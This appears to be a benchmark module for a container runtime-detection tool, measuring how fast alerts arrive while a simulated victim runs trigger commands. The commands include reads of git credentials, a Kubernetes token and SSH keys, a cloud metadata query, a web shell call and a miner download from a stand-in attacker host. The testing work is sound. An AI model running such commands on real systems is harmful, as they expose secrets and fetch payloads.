import { spawn } from "node:child_process";
import { setTimeout as sleep } from "node:timers/promises";
import { type Container, execInContainer } from "@atalaya/simulator";
import { alertSummarySchema } from "@atalaya/wire";
import { startStack } from "../stack.ts";
import { withVictim } from "../victim.ts";
import { type Measure, quantile } from "./measure.ts";
import { nativeProgram } from "./native-program.ts";

const attacks = 200;
/** A process started and ended is three events: fork, exec, exit. */
const backgroundSpawnsPerSecond = 667;

// One command for each runtime detection; the name of the rule that it must raise.
const commands: readonly [string, string[]][] = [
  ["Web Shell Activity", ["curl", "-sGo", "/dev/null", "--data-urlencode", "cmd=id", "http://victim/ws.php"]],
  ["Shell Opened in a Container", ["/bin/sh"]],
  ["Sensitive File Access", ["cat", "/home/user/.git-credentials"]],
  ["Service Account Token Access", ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"]],
  ["Secret Reconnaissance", ["find", "/home", "-name", "id_rsa"]],
  ["Cloud Metadata Access", ["curl", "-sm2", "-o", "/dev/null", "http://169.254.169.254/latest/meta-data/"]],
  ["Network Scanning Tool", ["nmap", "--version"]],
  ["Digital Currency Mining", ["/bin/true", "-o", "stratum+tcp://pool.invalid:3333", "-u", "x"]],
  ["Coin Miner Download", ["curl", "-sm2", "-o", "/dev/null", "http://attacker/xmrig"]],
  ["Kubernetes CPU Optimization", ["sysctl", "-w", "vm.nr_hugepages=1"]],
  ["Preload File Access", ["cat", "/etc/ld.so.preload"]],
  ["Drift Binary Executed", ["/tmp/new-program"]],
];

async function attackInTurn(victim: Container): Promise<void> {
  await execInContainer(victim, ["cp", "/bin/true", "/tmp/new-program"]);
  for (let i = 0; i < attacks; i++) {
    const [, args] = commands[i % commands.length] as [string, string[]];
    await execInContainer(victim, args);
  }
}

export const latency: Measure = {
  name: "latency",
  what: "system call to alert at the reader of the stream, 200 attacks under 2,000 background events/s",
  async run(say) {
    const stack = await startStack();
    const stopped = new AbortController();
    const taken: number[] = [];
    const seen = new Set<string>();
    try {
      return await withVictim(async (victim) => {
        const following = stack.client.follow(
          "alerts",
          {},
          (message) => {
            const alert = alertSummarySchema.safeParse(message.data);
            if (!alert.success || alert.data.where.container_id !== victim.id) return;
            seen.add(alert.data.rule);
            taken.push((Date.now() * 1_000 - alert.data.last_seen_us) / 1_000);
          },
          stopped.signal,
        );
        const seconds = String(attacks);
        const load = spawn(nativeProgram("spawn"), [
          seconds,
          nativeProgram("nothing"),
          String(backgroundSpawnsPerSecond),
        ]);
        await attackInTurn(victim);
        await sleep(2_000);
        load.kill();
        stopped.abort();
        await following;
        const missing = commands.map(([rule]) => rule).filter((rule) => !seen.has(rule));
        say(`${taken.length} arrivals, missing: ${missing.join(", ") || "none"}`);
        const detail = `${taken.length} arrivals of ${seen.size} rules${missing.length > 0 ? `; MISSING ${missing.join(", ")}` : ""}`;
        const target = { at: "most", value: 1_000 } as const;
        return [
          { name: "alert_latency_p50", value: quantile(taken, 0.5), unit: "ms", detail },
          { name: "alert_latency_p99", value: quantile(taken, 0.99), unit: "ms", target, detail },
          { name: "alert_latency_max", value: Math.max(...taken), unit: "ms", detail },
          { name: "alert_rules_missed", value: missing.length, unit: "rules", target: { at: "most", value: 0 } },
        ];
      });
    } finally {
      stopped.abort();
      await stack.stop();
    }
  },
};
